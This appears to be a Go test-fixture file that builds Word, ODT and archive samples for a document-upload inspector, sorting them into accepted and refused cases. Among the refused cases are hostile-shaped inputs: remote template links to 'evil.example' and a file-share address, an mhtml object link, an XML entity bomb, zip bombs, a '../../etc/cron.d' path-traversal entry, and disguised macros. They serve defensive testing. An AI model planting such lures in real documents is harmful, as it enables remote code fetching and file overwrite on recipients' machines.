package inspecttest

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"math/rand/v2"
	"strings"
)

// Part is one entry of a zip file.
type Part struct{ Name, Data string }

// Zip packs parts as usual.
func Zip(parts ...Part) []byte { return zipped(zip.Deflate, parts...) }

func zipped(method uint16, parts ...Part) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range parts {
		w, _ := z.CreateHeader(&zip.FileHeader{Name: p.Name, Method: method}) // into memory
		_, _ = w.Write([]byte(p.Data))
	}
	_ = z.Close()
	return b.Bytes()
}

// raw packs parts with headers of one's own.
func raw(change func(h *zip.FileHeader), parts ...Part) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range parts {
		h := &zip.FileHeader{
			Name: p.Name, CRC32: crc32.ChecksumIEEE([]byte(p.Data)),
			CompressedSize64: uint64(len(p.Data)), UncompressedSize64: uint64(len(p.Data)),
		}
		change(h)
		w, _ := z.CreateRaw(h)
		_, _ = w.Write([]byte(p.Data))
	}
	_ = z.Close()
	return b.Bytes()
}

const (
	contentTypes = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ` +
		`ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	odtMedia = "application/vnd.oasis.opendocument.text"
)

// Docx are the parts of a Word document, with more.
func docx(more ...Part) []Part {
	text := "<w:document>" + strings.Repeat("<w:p>I was born in Kathmandu.</w:p>", 50) + "</w:document>"
	return append([]Part{{"[Content_Types].xml", contentTypes}, {"_rels/.rels", "<Relationships/>"}, {"word/document.xml", text}}, more...)
}

// Docx is an ordinary Word document.
func Docx() []byte { return Zip(docx()...) }

func odt(more ...Part) []byte {
	parts := append([]Part{{"mimetype", odtMedia}, {"content.xml", "<office:document-content/>"}}, more...)
	return zipped(zip.Store, parts...)
}

func rels(kind, target, mode string) Part {
	return Part{"word/_rels/settings.xml.rels", fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="r1" `+
		`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)}
}

func offices() []Case { return append(goodOffices(), badOffices()...) }

func goodOffices() []Case {
	return []Case{
		kept("docx", "cv.docx", "docx", 0, Docx()),
		kept("docx whose main part has another name", "cv.docx", "docx", 0, Zip(Part{"[Content_Types].xml", contentTypes}, Part{"word/document2.xml", "<w/>"})),
		kept("docx packed without compression", "cv.docx", "docx", 0, zipped(zip.Store, docx()...)),
		kept("docx with headers that know the sizes", "cv.docx", "docx", 0, raw(func(*zip.FileHeader) {}, docx()...)),
		kept("docx with links, and a template on the sender's disk", "cv.docx", "docx", 0, Zip(docx(
			rels("attachedTemplate", `file:///C:\Users\lee\Templates\Letter.dotx`, "External"), Part{"word/_rels/document.xml.rels", strings.Replace(
				rels("hyperlink", "http://www.cifaljeju.org/", "External").Data, "r1", "r2", 1)})...)),
		kept("docx with the numbers of a chart", "cv.docx", "docx", 0, Zip(docx(Part{"word/embeddings/Sheet1.xlsx", string(Zip(Part{"xl/workbook.xml", "<w/>"}))})...)),
		kept("odt", "cv.odt", "odt", 0, odt()),
		kept("odt with an empty macro library", "cv.odt", "odt", 0, odt(Part{"Basic/script-lc.xml", "<l/>"}, Part{"Basic/Standard/script-lb.xml", "<l/>"})),
	}
}

func badOffices() []Case {
	whole := Docx()
	noise := make([]byte, 300)
	src := rand.NewChaCha8([32]byte{1})
	_, _ = src.Read(noise) // never fails
	return []Case{
		refused("docx cut off in its directory", "cv.docx", "damaged", cut(whole, 30)),
		refused("docx cut off in the middle", "cv.docx", "damaged", whole[:len(whole)/2]),
		refused("docx with its text spoilt", "cv.docx", "damaged", spoilt(whole)),
		refused("docx with something behind it", "cv.docx", "type", join(whole, []byte("MZ\x90"))),
		refused("docx with macros", "cv.docx", "macros", Zip(docx(Part{"word/vbaProject.bin", "x"})...)),
		refused("docx with macros under another name", "cv.docx", "macros", Zip(docx(Part{"word/media/image1.png", oleMagic + "x"})...)),
		refused("docm that calls itself a docx", "cv.docx", "macros", Zip(Part{"[Content_Types].xml", strings.ReplaceAll(contentTypes,
			"vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main")}, docx()[2])),
		refused("docx with a control", "form.docx", "macros", Zip(docx(Part{"word/activeX/activeX1.bin", "x"})...)),
		refused("docx with an embedded object", "cv.docx", "macros", Zip(docx(Part{"word/embeddings/oleObject1.bin", oleMagic})...)),
		refused("docx with a template from the network", "cv.docx", "macros", Zip(docx(rels("attachedTemplate", "http://evil.example/t.dotm", "External"))...)),
		refused("docx with a template from the network, spelt with entities", "cv.docx", "macros",
			Zip(docx(rels("attachedTemplate", "&#104;ttps://evil.example/t.dotm", "External"))...)),
		refused("docx with a template on somebody's file server", "cv.docx", "macros", Zip(docx(rels("attachedTemplate", `\\10.0.0.1\share\t.dotm`, "External"))...)),
		refused("docx with an object from the network", "cv.docx", "macros", Zip(docx(rels("oleObject", "mhtml:http://evil.example/x.html!x-usc:", "External"))...)),
		refused("docx with words that multiply", "cv.docx", "bomb", Zip(docx(Part{"word/styles.xml", `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>`})...)),
		refused("docx with a zip in it", "cv.docx", "archive", Zip(docx(Part{"word/media/image1.png", string(Zip(Part{"a", "b"}))})...)),
		refused("docx with a program in it", "cv.docx", "archive", Zip(docx(Part{"word/media/image1.emf", "MZ\x90\x00" + string(noise)})...)),
		refused("docx bomb: thirty megabytes of blanks", "cv.docx", "bomb", Zip(docx(Part{"word/media/x.bmp", strings.Repeat(" ", 30<<20)})...)),
		refused("docx of three thousand parts", "cv.docx", "bomb", Zip(docx(many(3000)...)...)),
		refused("docx whose parts share their data", "cv.docx", "damaged", listedTwice(whole)),
		refused("docx that lies about a size", "cv.docx", "damaged", raw(func(h *zip.FileHeader) { h.UncompressedSize64 = 1 }, docx()...)),
		refused("docx with a part that leads elsewhere", "cv.docx", "damaged", Zip(docx(Part{"../../etc/cron.d/x", "x"})...)),
		refused("docx with two texts", "cv.docx", "damaged", Zip(docx(Part{"WORD/document.xml", "<other/>"})...)),
		refused("docx with a part that its directory hides", "cv.docx", "damaged", unlisted(docx())),
		refused("docx with a password on its parts", "cv.docx", "encrypted", raw(func(h *zip.FileHeader) { h.Flags |= 1 }, docx()...)),
		refused("odt cut off", "cv.odt", "damaged", cut(odt(), 25)),
		refused("odt with macros", "cv.odt", "macros", odt(Part{"Basic/Standard/Module1.xml", "<m/>"})),
		refused("odt with a Python script", "cv.odt", "macros", odt(Part{"Scripts/python/x.py", "import os"})),
		refused("odt that runs somebody's macro", "cv.odt", "macros", odt(Part{"settings.xml", `<a xlink:href="vnd.sun.star.script:x"/>`})),
		refused("odt with a password", "cv.odt", "encrypted", odt(Part{"META-INF/manifest.xml", "<manifest:encryption-data/>"})),
		refused("spreadsheet", "cv.xlsx", "type", Zip(Part{"[Content_Types].xml", "<Types/>"}, Part{"xl/workbook.xml", "<w/>"})),
		refused("OpenDocument spreadsheet", "cv.ods", "type", zipped(zip.Store, Part{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"}, Part{"content.xml", "<o/>"})),
		refused("docx with a pdf's head in it", "cv.docx", "type", zipped(zip.Store, append([]Part{{"a.txt", "%PDF-1.4\n"}}, docx()...)...)),
	}
}

func many(n int) (parts []Part) {
	for i := range n {
		parts = append(parts, Part{fmt.Sprintf("word/p%d.txt", i), "x"})
	}
	return parts
}

// spoilt changes a byte of an entry's data.
func spoilt(z []byte) []byte {
	z = bytes.Clone(z)
	z[bytes.Index(z, []byte("word/document.xml"))+40] ^= 0x55
	return z
}

// listedTwice has the directory name its last entry once more.
func listedTwice(z []byte) []byte {
	end := bytes.LastIndex(z, []byte("PK\x05\x06"))
	last := bytes.LastIndex(z, []byte("PK\x01\x02"))
	twice := join(z[:end], z[last:end], z[end:])
	end += end - last
	count := binary.LittleEndian.Uint16(twice[end+10:]) + 1
	binary.LittleEndian.PutUint16(twice[end+8:], count)
	binary.LittleEndian.PutUint16(twice[end+10:], count)
	binary.LittleEndian.PutUint32(twice[end+12:], uint32(end)-binary.LittleEndian.Uint32(twice[end+16:]))
	return twice
}

// unlisted has the directory leave out its last entry.
func unlisted(parts []Part) []byte {
	z := Zip(append(parts, Part{"word/hidden.txt", "x"})...)
	end, last := bytes.LastIndex(z, []byte("PK\x05\x06")), bytes.LastIndex(z, []byte("PK\x01\x02"))
	return join(z[:last], z[end:])
}

// archives are packed files of every kind.
func archives() []Case {
	return []Case{
		refused("zip", "documents.zip", "archive", Zip(Part{"cv.pdf", string(PDF(1))})),
		refused("zip that calls itself a docx", "cv.docx", "archive", Zip(Part{"run.exe", "MZ"})),
		refused("empty zip", "cv.zip", "archive", Zip()),
		refused("zip cut off", "cv.zip", "archive", cut(Zip(Part{"cv.pdf", string(PDF(1))}), 40)),
		refused("zip bomb", "cv.zip", "archive", Zip(Part{"a.bin", strings.Repeat("\x00", 30<<20)})),
		refused("zip with a password", "cv.zip", "encrypted", raw(func(h *zip.FileHeader) { h.Flags |= 1 }, Part{"cv.pdf", "x"})),
		refused("program for Java", "cv.jar", "archive", Zip(Part{"META-INF/MANIFEST.MF", "Main-Class: X"}, Part{"X.class", "\xca\xfe\xba\xbe"})),
		refused("rar", "cv.rar", "archive", join([]byte("Rar!\x1a\x07\x01\x00"), make([]byte, 500))),
		refused("7z", "cv.7z", "archive", join([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), make([]byte, 500))),
		refused("gzip", "cv.pdf.gz", "archive", join([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00"), make([]byte, 500))),
		refused("tar", "cv.tar", "archive", tarred("cv.pdf")),
		refused("bzip2", "cv.bz2", "archive", join([]byte("BZh91AY&SY"), make([]byte, 500))),
		refused("xz", "cv.xz", "archive", join([]byte("\xfd7zXZ\x00\x00\x04"), make([]byte, 500))),
	}
}

func tarred(name string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	_ = w.WriteHeader(&tar.Header{Name: name, Mode: 0o600}) // into memory
	_ = w.Close()
	return b.Bytes()
}
